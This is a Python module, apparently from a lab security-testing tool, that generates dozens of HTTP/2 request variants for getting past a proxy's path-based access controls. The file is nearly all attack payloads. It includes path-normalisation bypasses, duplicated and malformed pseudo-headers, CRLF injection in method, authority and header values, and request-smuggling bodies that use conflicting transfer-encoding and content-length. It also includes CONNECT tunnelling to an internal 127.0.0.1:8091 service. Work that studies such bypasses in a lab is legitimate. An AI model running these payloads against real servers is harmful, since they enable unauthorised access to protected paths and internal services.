"""Path tricks of HTTP/2: what its pseudo-headers and its binary headers can carry."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

from edge_trick_kinds import Target
from edge_vantage import MARK

Pairs = list[tuple[str, str]]


@dataclass(frozen=True)
class AskH2:
    """One request as a list of headers, pseudo-headers among them, sent in this order."""

    number: int
    address: str
    name: str
    headers: Pairs
    body: str = ""

    def order(self) -> dict[str, Any]:
        """As `edge_h2_worker` reads it."""
        return {
            "n": self.number,
            "address": self.address,
            "sni": self.name,
            "headers": self.headers,
            "body": self.body,
        }


def _no_body(target: Target, _host: str, _number: int) -> str:
    return target.body


@dataclass(frozen=True)
class H2Trick:
    """One way to ask. `headers` makes them from (target, host)."""

    name: str
    headers: Callable[[Target, str], Pairs]
    body: Callable[[Target, str, int], str] = _no_body


def _request(
    target: Target,
    host: str,
    *,
    method: str = "",
    path: str | None = None,
    scheme: str = "https",
    authority: str | None = None,
    more: Pairs | None = None,
) -> Pairs:
    pairs = [
        (":method", method or target.method),
        (":scheme", scheme),
        (":authority", host if authority is None else authority),
        (":path", target.path if path is None else path),
    ]
    if target.body:
        pairs.append(("content-type", "application/json"))
    return [*pairs, *(more or [])]


def _path(name: str, change: Callable[[str], str]) -> H2Trick:
    return H2Trick(name, lambda t, h: _request(t, h, path=change(t.path)))


def _authority(name: str, authority: str, *hosts: str) -> H2Trick:
    """`{}` in the values stands for the site's name."""

    def headers(target: Target, host: str) -> Pairs:
        more = [("host", value.replace("{}", host)) for value in hosts]
        return _request(target, host, authority=authority.replace("{}", host), more=more)

    return H2Trick(name, headers)


def _header(name: str, header: str, value: str) -> H2Trick:
    def headers(target: Target, host: str) -> Pairs:
        filled = value.replace("{path}", target.path).replace("{host}", host)
        return _request(target, host, path="/", more=[(header, filled)])

    return H2Trick(name, headers)


def _paths() -> Iterator[H2Trick]:
    yield _path("as it is", lambda p: p)
    yield _path("no slash", lambda p: p[1:])
    yield _path("empty path", lambda _: "")
    yield _path("absolute", lambda p: "https://localhost" + p)
    yield _path("double slash", lambda p: "/" + p)
    yield _path("dots", lambda p: "/x/.." + p)
    yield _path("encoded dots", lambda p: "/x/%2e%2e" + p)
    yield _path("encoded letter", lambda p: f"/%{ord(p[1]):02x}{p[2:]}")
    yield _path("encoded slash", lambda p: "/%2f" + p[1:])
    yield _path("backslash", lambda p: "\\" + p[1:])
    yield _path("capitals", str.upper)
    yield _path("fragment", lambda p: "/#/.." + p)
    yield _path("null", lambda p: p + "\x00")
    yield _path("tab", lambda p: p[:2] + "\t" + p[2:])
    yield _path("space before", lambda p: " " + p)
    yield _path("space and a version", lambda p: f"{p} HTTP/1.1")
    yield _path("a whole request line", lambda p: f"/ HTTP/1.1\r\nHost: localhost\r\n\r\nGET {p}")
    yield _path("a line feed", lambda p: f"/\nGET {p}")
    yield _path("raw byte", lambda p: p + "\xff")
    yield _path("asterisk", lambda _: "*")


def _pseudo() -> Iterator[H2Trick]:
    yield H2Trick("two paths", lambda t, h: [*_request(t, h, path="/"), (":path", t.path)])
    yield H2Trick(
        "two paths, other order", lambda t, h: [(":path", t.path), *_request(t, h, path="/")]
    )
    yield H2Trick(
        "path behind the headers", lambda t, h: [*_no_path(t, h), ("x-a", "1"), (":path", t.path)]
    )
    yield H2Trick("no path", _no_path)
    yield H2Trick("two methods", lambda t, h: [(":method", "OPTIONS"), *_request(t, h)])
    yield H2Trick(
        "unknown pseudo-header", lambda t, h: [*_request(t, h), (":x-original-url", t.path)]
    )
    yield H2Trick("a status", lambda t, h: [(":status", "200"), *_request(t, h)])
    yield H2Trick("scheme http", lambda t, h: _request(t, h, scheme="http"))
    yield H2Trick("scheme with a host", lambda t, h: _request(t, h, scheme="https://localhost/x?"))
    yield H2Trick("empty scheme", lambda t, h: _request(t, h, scheme=""))
    yield H2Trick(
        "a method that is a request line",
        lambda t, h: _request(t, h, path="/", method=f"GET {t.path} HTTP/1.1\r\nHost: {h}\r\nX-A:"),
    )
    yield H2Trick(
        "a method with a space", lambda t, h: _request(t, h, path="/", method=f"GET {t.path}")
    )
    yield H2Trick("small method", lambda t, h: _request(t, h, method=t.method.lower()))
    yield H2Trick(
        "CONNECT", lambda t, _: [(":method", "CONNECT"), (":authority", "127.0.0.1:8091")]
    )
    yield H2Trick("CONNECT with a path", lambda t, h: _request(t, h, method="CONNECT"))
    yield H2Trick(
        "websocket", lambda t, h: [(":protocol", "websocket"), *_request(t, h, method="CONNECT")]
    )


def _no_path(target: Target, host: str) -> Pairs:
    return [pair for pair in _request(target, host) if pair[0] != ":path"]


def _authorities() -> Iterator[H2Trick]:
    yield _authority("authority and another host", "{}", "localhost")
    yield _authority("another authority and the host", "localhost", "{}")
    yield _authority("unknown authority", "evil.test")
    yield _authority("authority of PocketBase", "127.0.0.1:8091")
    yield _authority("two hosts", "{}", "{}", "localhost")
    yield _authority("authority with a user", "x@{}")
    yield _authority("authority with a port", "{}:443")
    yield _authority("authority with another port", "{}:8091")
    yield _authority("authority in capitals", "TK-1.LAB.TEST")
    yield _authority("authority with a dot", "{}.")
    yield _authority("authority with a path", "{}/tinykit")
    yield _authority("authority with a line", "{}\r\nX-A: 1")
    yield _authority("empty authority", "", "{}")
    yield H2Trick(
        "host only",
        lambda t, h: [*(pair for pair in _request(t, h) if pair[0] != ":authority"), ("host", h)],
    )
    yield H2Trick("two authorities", lambda t, h: [(":authority", "localhost"), *_request(t, h)])


def _headers() -> Iterator[H2Trick]:
    line = "GET {path} HTTP/1.1\r\nHost: {host}\r\n\r\n"
    yield _header("a request in a value", "x-a", f"1\r\n\r\n{line}")
    yield _header("a request in a name", f"x-a: 1\r\n\r\n{line}".replace("{path}", "/tinykit"), "1")
    yield _header("a line feed in a value", "x-a", "1\nX-Original-URL: {path}")
    yield _header("a colon in a name", "x-a:b", "1")
    yield _header("a space in a name", "x-a b", "1")
    yield _header("a capital in a name", "X-Original-URL", "{path}")
    yield _header("an empty name", "", "{path}")
    yield _header("Upgrade", "upgrade", "h2c")
    yield _header("Connection", "connection", "x-forwarded-for, x-real-ip")
    yield _header("TE", "te", "chunked")
    yield H2Trick("chunked", _chunked, _hidden("0\r\n\r\n"))
    yield H2Trick("chunked, with a line", _chunked_by_line, _hidden("0\r\n\r\n"))
    yield H2Trick("length zero", _length("0"), _hidden(""))
    yield H2Trick("length of a part", _length("3"), _hidden("x=1"))
    yield H2Trick(
        "two lengths", lambda t, h: [*_length("0")(t, h), ("content-length", "9999")], _hidden("")
    )
    yield H2Trick("a length with a plus", _length("+0"), _hidden(""))


def _post(target: Target, host: str, more: Pairs) -> Pairs:
    plain = Target("POST", target.path, ())
    return _request(plain, host, path="/_tk", more=[("content-type", "text/x"), *more])


def _chunked(target: Target, host: str) -> Pairs:
    return _post(target, host, [("transfer-encoding", "chunked")])


def _chunked_by_line(target: Target, host: str) -> Pairs:
    return _post(target, host, [("x-a", "1\r\ntransfer-encoding: chunked")])


def _length(value: str) -> Callable[[Target, str], Pairs]:
    return lambda target, host: _post(target, host, [("content-length", value)])


def _hidden(before: str) -> Callable[[Target, str, int], str]:
    """A request in the body, behind what may look like its end."""
    return lambda target, host, number: (
        f"{before}{target.method} {target.path} HTTP/1.1\r\n"
        f"Host: {host}\r\n{MARK}: {number}\r\n\r\n"
    )


H2_TRICKS = (*_paths(), *_pseudo(), *_authorities(), *_headers())
